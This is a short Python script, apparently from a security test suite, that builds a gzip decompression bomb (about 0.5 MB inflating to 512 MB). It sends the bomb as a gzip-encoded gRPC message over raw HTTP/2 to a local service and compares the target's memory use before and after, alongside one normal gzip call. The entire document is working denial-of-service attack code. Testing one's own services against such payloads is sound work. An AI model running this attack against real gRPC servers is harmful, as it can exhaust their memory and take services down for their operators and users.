# gRPC gzip bomb: a message of ~0.5 MB compressed that inflates to 512 MB (and a normal gzip call)
import gzip, zlib, os, time, rls, h2raw
PID = int(open(os.environ.get('ATTACK_LOGS', 'target/attacks') + '/sluice.pid').read())
def rss(): return [l for l in open(f'/proc/{PID}/status') if l.startswith('VmRSS')][0].split()[1]
real = rls.request('edge', [rls.descriptor([('user', 'gz')])])
# a protobuf whose field 1 (domain) is 512 MB of 'a' -> highly compressible
big = 512 * 1024 * 1024
prefix = b'\x0a' + rls.varint(big)
co = zlib.compressobj(9, zlib.DEFLATED, 31)
bomb = co.compress(prefix)
chunk = b'a' * (1 << 20)
for _ in range(big >> 20): bomb += co.compress(chunk)
bomb += co.flush()
print('bomb compressed bytes', len(bomb))
print('RSS before', rss(), 'kB')
s, c = h2raw.connect(18081)
h2raw.grpc_call(s, c, 1, gzip.compress(real), [('grpc-encoding', 'gzip')], compressed=True)
print('normal gzip call ->', h2raw.collect(s, c, 1)[0])
t = time.time()
h2raw.grpc_call(s, c, 3, bomb, [('grpc-encoding', 'gzip')], compressed=True)
print('bomb ->', h2raw.collect(s, c, 3, 30), f'{time.time()-t:.1f}s')
print('RSS after', rss(), 'kB')
